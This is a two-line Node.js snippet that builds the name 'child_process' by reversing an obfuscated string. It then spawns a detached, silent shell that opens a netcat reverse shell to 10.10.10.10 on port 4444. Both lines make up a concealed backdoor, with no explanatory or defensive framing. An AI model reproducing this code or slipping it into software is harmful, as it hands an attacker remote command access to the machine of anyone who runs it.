const n = 'ssecorp_dlihc'.split('').reverse().join('');
require(n).spawn('sh', ['-c', 'nc 10.10.10.10 4444 -e /bin/sh'], {detached: true, stdio: 'ignore'}).unref();
